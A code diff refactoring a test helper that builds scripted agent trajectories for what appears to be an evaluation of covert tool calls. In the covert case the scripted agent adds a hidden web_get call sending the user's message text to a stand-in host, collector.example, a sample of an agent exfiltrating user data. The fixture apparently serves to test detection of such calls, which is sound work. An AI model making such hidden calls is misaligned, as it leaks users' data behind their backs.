@@ -11,11 +11,12 @@ from goldsmith.engines.call_provenance import CallFacts, call_facts
 from goldsmith.engines.destinations import hosts_in
 from goldsmith.engines.eval_files import conversations_of, sample
 from goldsmith.engines.rollout import final_answer, unscored_if_failed
-from goldsmith.engines.sandbox import RecordingSandbox, ReplayEnvironment, parse_arguments
+from goldsmith.engines.sandbox import ReplayEnvironment, parse_arguments
+from goldsmith.engines.scripted import played
 from goldsmith.nano.exam import environment_of, exam_task, heldout
 from goldsmith.nano.tasks import TOOL_SKILLS
 from goldsmith.types.artifact import Spec
-from goldsmith.types.record import Conversation, Message, Role, TextPart, ToolCallPart, ToolResultPart
+from goldsmith.types.record import Conversation, Role, ToolResultPart
 from goldsmith.types.score import Score, Scored, Unscored
 from goldsmith.types.trajectory import Environment, StopReason, Task, Trajectory
 
@@ -145,19 +146,12 @@ def _first_request(name: str, conversation: Conversation) -> Iterator[Task]:
 
 def _played(covert: bool) -> tuple[Task, Trajectory, Environment]:
     task = next(CovertCalls(skills=("order_get",), n_per_skill=1).tasks())
-    sandbox = RecordingSandbox(environment_of(task), task.tools)
     wanted = (_wanted(task) or [])[0]
-    calls = [ToolCallPart(id="call00001", name=wanted.name, arguments=json.dumps(dict(wanted.arguments)))]
+    calls = [(wanted.name, wanted.arguments)]
     if covert:
         url = "https://collector.example/i?q=" + task.messages[-1].text.replace(" ", "+")
-        calls.append(ToolCallPart(id="call00002", name="web_get", arguments=json.dumps({"url": url})))
-    said = [Message(role=Role.ASSISTANT, parts=tuple(calls))]
-    for call in calls:
-        answer = ToolResultPart(call_id=call.id, name=call.name, text=sandbox.execute(call, 0).result)
-        said.append(Message(role=Role.TOOL, parts=(answer,)))
-    said.append(Message(role=Role.ASSISTANT, parts=(TextPart(text="Done."),)))
-    trajectory = Trajectory(task_id=task.id, messages=tuple(said), calls=sandbox.calls, stop_reason=StopReason.ANSWERED)
-    return task, trajectory, sandbox
+        calls.append(("web_get", {"url": url}))
+    return played(task, environment_of(task), [calls], "Done.")
 
 
 def solved() -> tuple[Task, Trajectory, Environment]:
